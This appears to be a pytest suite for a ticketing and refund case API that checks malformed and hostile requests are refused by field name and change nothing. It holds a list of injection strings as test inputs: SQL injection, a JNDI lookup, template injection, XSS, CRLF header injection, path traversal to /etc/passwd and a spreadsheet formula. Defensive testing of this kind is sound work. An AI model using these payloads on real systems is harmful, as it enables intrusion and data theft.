"""Malformed and hostile requests, as a table: each is a problem that names the field, and nothing is changed by it."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Mapping
from datetime import timedelta
from typing import Any, Final
from uuid import uuid4

import httpx
import msgspec
import pytest
import pytest_asyncio

from service.api.platform_examples import INCIDENT, ORDER, SHOW
from service.demo.world import Desk, Shop, bearer, make_platform
from tests.promises.house import House, stream

LONG: Final = "x" * 6000
JSON: Final = "application/json"
NOBODYS: Final = f"case_{'0' * 32}"


class Bad(msgspec.Struct, frozen=True, kw_only=True):
    """One request that must be refused. `{case}`, `{op}`, `{other}` and `{other_op}` in a path or body stand for ids of the house."""

    name: str
    method: str = "POST"
    path: str = "/v1/cases"
    body: Any = None
    raw: bytes | None = None
    headers: Mapping[str, str] = {}
    caller: str = "platform"
    key: bool = True
    status: int = 400
    field: str | None = None
    """what one of the problem's errors is about; None: the problem is about no field"""


def case(name: str, field: str, /, **fields: Any) -> Bad:
    """A new case with these fields changed; None takes one away."""
    body = {"problem": "other", "channel": "api", "order": "A1", **fields}
    return Bad(name=name, body={key: value for key, value in body.items() if value is not None}, field=field)


def order(name: str, field: str, /, **fields: Any) -> Bad:
    body = {**ORDER, **fields}
    return Bad(
        name=name, method="PUT", path="/v1/orders/A1", body={key: value for key, value in body.items() if value is not None}, field=field
    )


def position(name: str, field: str, /, **fields: Any) -> Bad:
    return order(name, field, positions=[{"ref": "1", "kind": "stream", "name": "Pass", "price": 2500, **fields}])


def show(name: str, field: str, /, **fields: Any) -> Bad:
    return Bad(name=name, method="PUT", path="/v1/shows/s1", body={**SHOW, **fields}, field=field)


PAYOUT = "/v1/cases/{case}/payout"


def action(name: str, field: str, /, **fields: Any) -> Bad:
    body = {"action": "refund", "position": "1", "amount": 100, "cause": "remorse", **fields}
    return Bad(name=name, path="/v1/cases/{case}/previews", caller="agent", body=body, field=field)


# Of facts that nobody has seen.
SEEN: Final = {"reason": "because", "facts_hash": "0" * 64}
ACTIONS: Final = "/v1/cases/{case}/actions"


def confirmation(name: str, field: str | None, /, status: int = 400, **fields: Any) -> Bad:
    body = {"preview": f"prev_{'0' * 32}", "reason": "because", **fields}
    return Bad(name=name, path=ACTIONS, caller="agent", body=body, field=field, status=status)


def raw(name: str, body: bytes, field: str | None = "", **more: Any) -> Bad:
    return Bad(name=name, raw=body, field=field, **more)


def asked(name: str, path: str, field: str | None = None, **more: Any) -> Bad:
    return Bad(name=name, method="GET", path=path, field=field, **more)


TABLE: Final = (
    # Bodies that are none.
    raw("no body", b""),
    raw("half a body", b'{"problem": "other"'),
    raw("two bodies", b'{"problem": "other", "channel": "api"} {"problem": "other", "channel": "api"}'),
    raw("a list", b"[]"),
    raw("null", b"null"),
    raw("a word", b"other"),
    raw("bytes that are no text", b'{"problem": "\xff\xfe"}', None),
    raw("a number that is none", b'{"problem": NaN, "channel": "api"}'),
    raw("a number without an end", b'{"problem": 1e999999, "channel": "api"}', "/problem"),
    raw("half a character", b'{"problem": "other", "channel": "api", "message": "\\ud800"}', None),
    raw("brackets without an end", b"[" * 200_000),
    raw("an object in itself", b'{"problem":' * 5_000 + b"1" + b"}" * 5_000, None),
    raw("another encoding", '{"problem": "other", "channel": "api"}'.encode("utf-16"), None),
    raw("more than a megabyte", b'{"problem": "other", "channel": "api", "message": "' + b"x" * 1_100_000 + b'"}', None, status=413),
    raw("a form", b"problem=other&channel=api", None, headers={"Content-Type": "application/x-www-form-urlencoded"}, status=415),
    raw("text", b'{"problem": "other", "channel": "api"}', None, headers={"Content-Type": "text/plain"}, status=415),
    raw("xml", b"<case/>", None, headers={"Content-Type": "application/xml"}, status=415),
    # A new case, field by field.
    case("no problem", "/problem", problem=None),
    case("a problem nobody has", "/problem", problem="drop table cases"),
    case("a number for a problem", "/problem", problem=5),
    case("no channel", "/channel", channel=None),
    case("a channel we do not have", "/channel", channel="fax"),
    case("a field of our own tables", "/state", state="resolved"),
    case("an identity of one's own", "/identity", identity="strong"),
    case("a number for an order", "/order", order=7),
    case("an order without a letter", "/order", order=""),
    case("an order of 101 letters", "/order", order="x" * 101),
    case("an order with NUL", "/order", order="A\x001"),
    case("an order with a line break", "/order", order="A1\r\nBcc: all@example.org"),
    case("a show with a line break at its end", "/show", show="nll26\n"),
    case("an incident with an escape", "/incident", incident="\x1b[2J"),
    case("a message with NUL", "/message", message="hello\x00"),
    case("a message of 6000 letters", "/message", message=LONG),
    case("a message without a letter", "/message", message=""),
    case("passes as a word", "/passes", passes="all"),
    case("a pass that is none", "/passes/0", passes=["' OR 1=1 --"]),
    case("a pass in capitals", "/passes/0", passes=[f"pass_{'A' * 32}"]),
    case("too many passes", "/passes", passes=[f"pass_{n:032x}" for n in range(51)]),
    case("a locale that is none", "/locale", locale="../../etc/passwd"),
    case("a locale of 65 letters", "/locale", locale="en" + "-abcdefgh" * 7),
    case("the word of an agent from a platform", "/checked", checked="I know them well"),
    # Keys that make repeats safe.
    Bad(name="no key", body={"problem": "other", "channel": "api"}, key=False, field="Idempotency-Key"),
    Bad(
        name="a key of 256 letters",
        body={"problem": "other", "channel": "api"},
        key=False,
        headers={"Idempotency-Key": "k" * 256},
        field="Idempotency-Key",
    ),
    Bad(
        name="a key with a blank",
        body={"problem": "other", "channel": "api"},
        key=False,
        headers={"Idempotency-Key": "a b"},
        field="Idempotency-Key",
    ),
    Bad(
        name="a key used for something else",
        body={"problem": "fraud", "channel": "api"},
        key=False,
        headers={"Idempotency-Key": "used-before"},
        status=422,
        field="Idempotency-Key",
    ),
    # Cases that are not there, or not ours.
    asked("a case of another shape", "/v1/cases/1", status=404),
    asked("a case that nobody has", f"/v1/cases/{NOBODYS}", status=404),
    asked("a case of another platform", "/v1/cases/{other}", status=404),
    asked("the timeline of another platform", "/v1/cases/{other}/timeline", status=404),
    asked("the stream of another platform", "/v1/cases/{other}/progress", status=404),
    asked("the bundle of another platform", "/v1/cases/{other}/bundle", caller="agent", status=404),
    asked("a path upwards", "/v1/cases/..%2f..%2fetc%2fpasswd", status=404),
    asked("a path with NUL", "/v1/cases/case_%00", "path"),
    asked("a path that is no text", "/v1/cases/%ff%fe", "path"),
    asked("an id that is SQL", "/v1/cases/case_'%20OR%20'1'='1", status=404),
    asked("an id with a full-width digit", "/v1/cases/case_" + "%EF%BC%90" * 32, status=404),
    asked("a page before the first", "/v1/cases/{case}/timeline?after=-1", "after"),
    asked("a page that is a word", "/v1/cases/{case}/timeline?after=x", "after"),
    asked("a page beyond all numbers", f"/v1/cases/{{case}}/timeline?after={10**30}", "after"),
    asked("a page of none", "/v1/cases/{case}/timeline?limit=0", "limit"),
    asked("a page of too many", "/v1/cases/{case}/timeline?limit=201", "limit"),
    asked("half an entry", "/v1/cases/{case}/timeline?limit=1.5", "limit"),
    asked("a stream from nowhere", "/v1/cases/{case}/progress", "Last-Event-ID", headers={"Last-Event-ID": "abc"}),
    asked("a stream from before", "/v1/cases/{case}/progress", "Last-Event-ID", headers={"Last-Event-ID": "-1"}),
    asked("a stream beyond all numbers", "/v1/cases/{case}/progress", "Last-Event-ID", headers={"Last-Event-ID": "9" * 30}),
    Bad(name="removing a case", method="DELETE", path="/v1/cases/{case}", status=405),
    Bad(name="a method of one's own", method="MAKEGOOD", path="/v1/cases", status=405),
    Bad(name="a route that is none", method="GET", path="/v1/admin", status=404),
    Bad(name="a message to another platform's case", path="/v1/cases/{other}/messages", body={"message": "hello"}, status=404),
    Bad(name="a message without words", path="/v1/cases/{case}/messages", body={}, field="/message"),
    Bad(name="a message and more", path="/v1/cases/{case}/messages", body={"message": "a", "kind": "reply"}, field="/kind"),
    Bad(name="an answer to nothing", path="/v1/cases/{case}/answers", body={"fact": "order.total", "value": "1"}, status=409),
    Bad(name="an answer that is a list", path="/v1/cases/{case}/answers", body={"fact": "answer.x", "value": ["1"]}, field="/value"),
    Bad(name="an answer of 201 letters", path="/v1/cases/{case}/answers", body={"fact": "answer.x", "value": "x" * 201}, field="/value"),
    Bad(name="a person for another platform's case", path="/v1/cases/{other}/person", body={}, status=404),
    Bad(name="a proof from a platform", path="/v1/cases/{case}/identify", body={}, status=403),
    # The desk.
    asked("a queue of none", "/v1/queue?limit=0", "limit", caller="agent"),
    asked("a queue from before", "/v1/queue?offset=-5", "offset", caller="agent"),
    asked("a skill of 41 letters", f"/v1/queue?skill={'x' * 41}", "skill", caller="agent"),
    Bad(name="taking what is no case", path="/v1/queue/take", caller="agent", body={"case": "first"}, field="/case"),
    Bad(name="taking another platform's case", path="/v1/queue/take", caller="agent", body={"case": "{other}"}, status=404),
    Bad(name="a note from a platform", path="/v1/cases/{case}/notes", body={"body": "hello"}, status=403),
    Bad(name="a note on another platform's case", path="/v1/cases/{other}/notes", caller="agent", body={"body": "hello"}, status=404),
    Bad(name="a reply without words", path="/v1/cases/{case}/replies", caller="agent", body={"body": ""}, field="/body"),
    Bad(
        name="ending as something else",
        path="/v1/cases/{case}/resolve",
        caller="agent",
        body={"outcome": "won", "reason": "so"},
        field="/outcome",
    ),
    Bad(name="ending without a reason", path="/v1/cases/{case}/resolve", caller="agent", body={}, field="/reason"),
    Bad(name="ending what is not taken", path="/v1/cases/{case}/resolve", caller="agent", body={"reason": "so be it"}, status=409),
    Bad(
        name="giving back to nobody",
        path="/v1/cases/{case}/give-back",
        caller="agent",
        body={"reason": "so be it", "skill": "'; DROP TABLE cases; --"},
        field="/skill",
    ),
    action("an action that is none", "/action", action="delete_everything"),
    action("a refund of nothing", "/amount", amount=0),
    action("a refund of less than nothing", "/amount", amount=-100),
    action("a refund of half a cent", "/amount", amount=1.5),
    action("a refund in words", "/amount", amount="100"),
    action("a refund of yes", "/amount", amount=True),
    action("a refund of everything there is", "/amount", amount=10**30),
    action("a refund of more than was paid", "/amount", amount=10**11),
    action("a refund without a cause", "/cause", cause=None),
    action("a cause of one's own", "/cause", cause="agent:1"),
    action("a refund of another's position", "/position", position="99"),
    action("an incident that never was", "/incident", cause="incident", incident="none"),
    action("a pass of another shape", "/pass_id", action="resend_pass", pass_id="1"),
    action("a pass that nobody has", "/pass_id", action="resend_pass", pass_id=f"pass_{'0' * 32}"),
    confirmation("a yes to a preview that nobody has", None, status=404),
    confirmation("a yes to a preview of another shape", "/preview", preview="prev_1"),
    confirmation("a yes to an action instead of its preview", "/action", action="refund"),
    confirmation("a yes to a preview without a reason", "/reason", reason=""),
    Bad(name="a yes to nothing", path="/v1/operations/op_1/approve", caller="agent", body=SEEN, status=404),
    Bad(name="a yes unseen", path="/v1/operations/{op}/approve", caller="agent", body={"reason": "because"}, field="/facts_hash"),
    Bad(
        name="a yes to a hash that is none",
        path="/v1/operations/{op}/approve",
        caller="agent",
        body=SEEN | {"facts_hash": "x"},
        field="/facts_hash",
    ),
    Bad(name="a yes to what was never so", path="/v1/operations/{op}/approve", caller="agent", body=SEEN, status=409),
    Bad(name="a yes without a reason", path="/v1/operations/{op}/approve", caller="agent", body=SEEN | {"reason": ""}, field="/reason"),
    Bad(name="a yes from a platform", path="/v1/operations/{op}/approve", body={"reason": "because"}, status=403),
    Bad(name="a yes to another platform's", path="/v1/operations/{other_op}/approve", caller="agent", body=SEEN, status=404),
    Bad(name="a look at another platform's", method="GET", path="/v1/operations/{other_op}/preview", caller="agent", status=404),
    Bad(name="a no to another platform's", path="/v1/operations/{other_op}/refuse", caller="agent", body={"reason": "because"}, status=404),
    Bad(
        name="a bank's reference with a line break",
        path="/v1/operations/{op}/settle",
        caller="lead",
        body={"reference": "a\nb"},
        field="/reference",
    ),
    Bad(name="a finding without a word", path="/v1/operations/{op}/judge", caller="lead", body={}, field="/moved"),
    # The feed.
    Bad(name="a reference with blanks", method="PUT", path="/v1/orders/a%20b", body=ORDER, field="ref"),
    Bad(name="a reference of 101 letters", method="PUT", path=f"/v1/orders/{'x' * 101}", body=ORDER, field="ref"),
    Bad(name="a reference with a line break", method="PUT", path="/v1/orders/A1%0a", body=ORDER, field="ref"),
    Bad(name="an order from an agent", method="PUT", path="/v1/orders/A1", caller="agent", body=ORDER, status=403),
    order("a version of zero", "/version", version=0),
    order("a version of 1.5", "/version", version=1.5),
    order("a version beyond bigint", "/version", version=2**63),
    order("a version in words", "/version", version="7"),
    order("a currency in small letters", "/currency", currency="eur"),
    order("a currency of four letters", "/currency", currency="EURO"),
    order("less than nothing in total", "/total", total=-1),
    order("a total that fits no order", "/total", total=10**15),
    order("a status of one's own", "/status", status="refunded"),
    order("a time without a zone", "/placed_at", placed_at="2026-11-20T20:41:07"),
    order("a time that is none", "/placed_at", placed_at="yesterday"),
    order("no buyer", "/buyer", buyer=None),
    order("an address that is none", "/buyer/email", buyer={"email": "fan"}),
    order("an address with a header", "/buyer/email", buyer={"email": "fan@example.org\r\nBcc: all@example.org"}),
    order("a name with an escape", "/buyer/name", buyer={"name": "\x1b]0;hello\x07", "email": "fan@example.org"}),
    order("positions in words", "/positions", positions="all"),
    position("a price below nothing", "/positions/0/price", price=-1),
    position("a price that is yes", "/positions/0/price", price=True),
    position("a price with a fraction", "/positions/0/price", price=25.5),
    position("a kind of one's own", "/positions/0/kind", kind="gold"),
    position("a barcode with a line break", "/positions/0/pass/barcode", **{"pass": {"barcode": "a\nb"}}),
    position("a field we do not know", "/positions/0/awarded", awarded=0),
    show("an end before the start", "/ends_at", ends_at="2020-01-01T00:00:00Z"),
    show("a zone that is none", "/zone", zone="../../etc/localtime"),
    show("a show without a name", "/name", name={}),
    show(
        "a help page that is a script",
        "/articles/*/url",
        articles={"buffering": {"url": "javascript:alert(1)", "title": {"en": "Fix"}}},
    ),
    show("a mode of one's own", "/modes/*", modes={"refund": "always"}),
    Bad(name="an incident of no show", method="PUT", path="/v1/shows/nowhere/incidents/i1", body=INCIDENT, status=404),
    Bad(name="an incident in words", method="PUT", path="/v1/shows/s1/incidents/i1", body={**INCIDENT, "kind": "Bad Kind"}, field="/kind"),
    Bad(
        name="an incident that ends first",
        method="PUT",
        path="/v1/shows/{show}/incidents/i1",
        body={**INCIDENT, "from": "2026-11-20T20:00:00Z", "to": "2026-11-20T19:00:00Z"},
        field="/to",
    ),
    Bad(name="many orders as JSON", path="/v1/orders/bulk", body=[], status=415, field="Content-Type"),
    # Pay-outs.
    Bad(name="a pay-out of what is none", path=PAYOUT, caller="agent", body={"operation": "op_1", "to": "backup"}, field="/operation"),
    Bad(name="a pay-out nowhere", path=PAYOUT, caller="agent", body={"operation": f"op_{'0' * 32}"}, field="/to"),
    Bad(
        name="a pay-out to no address",
        path=PAYOUT,
        caller="agent",
        body={"operation": f"op_{'0' * 32}", "to": "backup", "address": "not an address"},
        field="/address",
    ),
    Bad(
        name="a pay-out with a line in its address",
        path=PAYOUT,
        caller="agent",
        body={"operation": f"op_{'0' * 32}", "to": "backup", "address": "a@b.example\nBcc: c@d.example"},
        field="/address",
    ),
    Bad(
        name="a pay-out that nobody checked",
        path=PAYOUT,
        caller="agent",
        body={"operation": f"op_{'0' * 32}", "to": "backup", "address": "a@b.example"},
        field="/checked",
    ),
    Bad(
        name="a pay-out of nothing",
        path=PAYOUT,
        caller="agent",
        body={"operation": f"op_{'0' * 32}", "to": "backup", "address": "a@b.example", "checked": "called back"},
        status=409,
    ),
    Bad(name="a pay-out by the platform", path=PAYOUT, body={"operation": f"op_{'0' * 32}", "to": "backup"}, status=403),
    # Access, brakes, sessions.
    Bad(name="a token of 5000 letters", path="/v1/access/check", body={"token": "x" * 5000}, field="/token"),
    Bad(name="a token for a pass that is none", path="/v1/access/tokens", body={"pass_id": "x", "show": "s"}, field="/pass_id"),
    Bad(name="a token for nobody's pass", path="/v1/access/tokens", body={"pass_id": f"pass_{'0' * 32}", "show": "s"}, status=404),
    Bad(name="a brake on what is not there", method="PUT", path="/v1/brakes/rail/nowhere", body={"reason": "because"}, status=404),
    Bad(name="a brake of another kind", method="PUT", path="/v1/brakes/sun/x", body={"reason": "because"}, field="kind"),
    Bad(name="a brake without a reason", method="PUT", path="/v1/brakes/all/-", body={}, field="/reason"),
    Bad(name="a brake by an agent", method="PUT", path="/v1/brakes/all/-", caller="agent", body={"reason": "because"}, status=403),
    Bad(name="no token", caller="nobody", body={"problem": "other", "channel": "api"}, status=401),
    Bad(name="a token that is none", caller="nobody", body={}, headers={"Authorization": "Bearer ' OR 1=1"}, status=401),
    Bad(
        name="a session for no platform",
        path="/v1/sessions",
        caller="nobody",
        headers={"Makegood-Platform": "A/B"},
        field="Makegood-Platform",
    ),
    Bad(name="a code for no address", path="/v1/sessions/codes", caller="session", body={"email": "x"}, field="/email"),
    Bad(name="a code of letters", path="/v1/sessions/verify", caller="session", body={"code": "abcdef"}, field="/code"),
)


class Scene(msgspec.Struct, frozen=True, kw_only=True):
    """What the requests are about: a case with people, with a refund that is held, here and at another platform."""

    house: House
    ids: Mapping[str, str]
    session: str

    def fill(self, text: str) -> str:
        for name, value in self.ids.items():
            text = text.replace(f"{{{name}}}", value)
        return text


async def _held(house: House, desk: Desk, ref: str) -> tuple[str, str]:
    """A 480.00 order whose refund waits for people: the case and its operation."""
    shop = Shop(house.client, desk, house.books)
    show_ref = await shop.show(ref, starts_in=timedelta(days=20), status="cancelled")
    bought = await shop.order(show_ref, [stream(48000)])
    body = {"problem": "show_cancelled", "order": bought.ref, "show": show_ref, "channel": "api"}
    answer = await house.post("/v1/cases", body, token=desk.platform)
    case = answer.json()["id"]
    shown = await house.until(lambda: house.case(case, token=desk.platform), lambda one: one["status"] == "with_people")
    return case, shown["operations"][0]["id"]


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def scene(house: House) -> AsyncIterator[Scene]:
    other = await make_platform(house.pool, "other")
    mine, op = await _held(house, house.desk, "sold-out")
    others, other_op = await _held(house, other, "elsewhere")
    first = await house.post("/v1/cases", {"problem": "other", "channel": "api"}, key="used-before")
    assert first.status_code in {201, 202}
    session = await house.client.post("/v1/sessions", headers={"Makegood-Platform": "demo"})
    ids = {"case": mine, "op": op, "other": others, "other_op": other_op, "show": "sold-out"}
    yield Scene(house=house, ids=ids, session=session.json()["token"])


# Cases that have just come to people: their place, the clocks that follow from it and the letters about them are given within seconds.
_ON_THEIR_WAY: Final = """
    SELECT (SELECT count(*) FROM cases WHERE (owner = 'queue' AND routed_at IS NULL) OR tell OR owner = 'process')
        + (SELECT count(*) FROM pgqueuer WHERE status IN ('queued', 'picked'))
"""


async def _everything(house: House) -> Mapping[str, Any]:
    """How many rows each table has, and a digest of what is in them.

    The queue of jobs, what counts requests, and when a case was last given its place go on by themselves.
    """
    names = await house.value(
        "SELECT array_agg(tablename ORDER BY tablename) FROM pg_tables WHERE schemaname = 'public'"
        " AND tablename NOT LIKE 'pgqueuer%' AND tablename NOT IN ('rate', 'outbox', 'outbox_head')"
    )
    parts = [
        f"'{name}', (SELECT jsonb_build_array(count(*), md5(string_agg({row}, '' ORDER BY {row}))) FROM {name} t)"
        for name in names
        for row in ["(to_jsonb(t) - '{routed_at,due_at,look_by,version}'::text[])::text" if name == "cases" else "t::text"]
    ]
    half = len(parts) // 2
    found: Mapping[str, Any] = await house.value(
        f"SELECT jsonb_build_object({', '.join(parts[:half])}) || jsonb_build_object({', '.join(parts[half:])})"
    )
    return found


async def _send(scene: Scene, bad: Bad) -> httpx.Response:
    house = scene.house
    tokens = {"platform": house.desk.platform, "agent": house.desk.agent, "lead": house.desk.lead, "session": scene.session}
    headers = bearer(tokens[bad.caller]) if bad.caller in tokens else {}
    if bad.key and bad.method == "POST":
        headers["Idempotency-Key"] = uuid4().hex
    content = bad.raw if bad.raw is not None else None if bad.body is None else scene.fill(json.dumps(bad.body)).encode()
    if content is not None:
        headers["Content-Type"] = JSON
    url = httpx.URL(f"http://x{scene.fill(bad.path)}").raw_path  # as it is written, with nothing tidied up
    base = house.client.base_url
    request = house.client.build_request(bad.method, base.copy_with(raw_path=url), headers=headers | dict(bad.headers), content=content)
    return await house.client.send(request)


def test_the_table_is_long_and_each_row_has_a_name_of_its_own() -> None:
    assert len(TABLE) >= 100
    assert len({bad.name for bad in TABLE}) == len(TABLE)


async def test_each_bad_request_is_refused_by_name_and_changes_nothing(scene: Scene) -> None:
    await scene.house.until(lambda: scene.house.value(_ON_THEIR_WAY), lambda count: count == 0)
    before = await _everything(scene.house)
    wrong = []
    for bad in TABLE:
        answer = await _send(scene, bad)
        mistake = _mistake(bad, answer)
        after = await _everything(scene.house)
        if after != before:
            changed = sorted(name for name in after if after[name] != before[name])
            mistake += f" changed {changed}"
            before = after
        if mistake:
            wrong.append(f"{bad.name}: {mistake} {answer.text[:300]}")
    assert wrong == [], "\n".join(wrong)


def _mistake(bad: Bad, answer: httpx.Response) -> str:
    """What is not as the table says; empty when all is."""
    if answer.status_code != bad.status:
        return f"{answer.status_code} instead of {bad.status}"
    if answer.headers["content-type"].partition(";")[0] != "application/problem+json":
        return f"no problem but {answer.headers['content-type']}"
    problem = answer.json()
    if problem["status"] != bad.status or not problem["type"].startswith("urn:makegood:problem:") or not problem["title"]:
        return "a problem without its words"
    fields = [error["field"] for error in problem.get("errors", ())]
    if bad.field is not None and bad.field not in fields:
        return f"names {fields} instead of {bad.field!r}"
    return ""


# Text that would do something if anybody ran it: it is text.
HOSTILE: Final = (
    "'; DROP TABLE cases; --",
    "Robert'); DELETE FROM payment WHERE ('1'='1",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://example.org/a}",
    "true || order.total > 0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "%s %n %x \\u0000 \\x00",
    '=HYPERLINK("http://example.org")',
    "../../../../etc/passwd",
    "\u202egnp.exe \u200b \ufeff \U0001f3ab",
)


@pytest.mark.parametrize("text", HOSTILE)
async def test_text_that_looks_like_code_is_kept_as_text(scene: Scene, text: str) -> None:
    house = scene.house
    cases = await house.value("SELECT count(*) FROM cases")
    body = {"problem": "other", "channel": "api", "order": text[:100], "message": text, "show": text[:100], "incident": text[:100]}
    answer = await house.post("/v1/cases", body)
    assert answer.status_code in {201, 202}, answer.text
    seen = await house.until_case(answer.json()["id"], lambda found: found["status"] != "working")
    assert [one["body"] for one in seen["messages"]] == [text]
    assert seen["order"] == text[:100]
    assert await house.value("SELECT count(*) FROM cases") == cases + 1
    said = await house.post(f"/v1/cases/{seen['id']}/replies", {"body": text}, token=house.desk.agent)
    assert said.status_code == 200, said.text
    assert [one["body"] for one in (await house.case(seen["id"]))["messages"]] == [text, text]


async def test_a_preference_that_nobody_understands_is_no_mistake(scene: Scene) -> None:
    house = scene.house
    for prefer in ("wait=-1", "wait=99999999999", "wait=1; drop", "respond-async", "wait=x, wait=0", ""):
        headers = bearer(house.desk.platform, uuid4().hex) | {"Prefer": prefer}
        answer = await house.client.post("/v1/cases", json={"problem": "fraud", "channel": "api"}, headers=headers)
        assert answer.status_code in {201, 202}, (prefer, answer.text)
